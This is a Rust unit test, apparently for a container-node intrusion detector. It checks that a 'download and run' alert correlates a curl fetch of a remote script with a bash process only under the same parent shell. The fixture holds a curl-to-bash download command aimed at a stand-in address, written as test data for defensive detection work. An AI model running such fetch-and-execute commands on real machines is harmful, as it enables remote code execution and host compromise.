fn sequences_under_way_keep_their_keys_apart() {
    let curl = |pid, ppid| P {
        pid,
        ppid,
        ..p("/usr/bin/curl", &["curl", "-s", "http://10.0.0.9/i.sh"])
    };
    let shell = |pid, ppid| P {
        pid,
        ppid,
        ..p("/bin/bash", &["bash"])
    };
    // A download piped under shell 60, then a shell reading a pipe under shell 50.
    let first = [exec(1, &curl(200, 60)), exec(2, &shell(201, 50))];
    assert!(!alerts(&first).contains(&"K8S.NODE_DownloadAndRunCombo".to_string()));
    // A download under shell 50 completes 50's pair, with 50's events as evidence.
    let mut engine = engine();
    let mut out = Vec::new();
    for e in first.iter().chain([&exec(3, &curl(202, 50))]) {
        engine.process(e, &mut out);
    }
    let evidence: Vec<_> = out
        .iter()
        .filter_map(|a| match a {
            AlertEvent::Opened(a) if a.alert_type == "K8S.NODE_DownloadAndRunCombo" => {
                Some(a.evidence.clone())
            }
            _ => None,
        })
        .collect();
    assert_eq!(evidence, [["node:1:2", "node:1:3"]]);
}
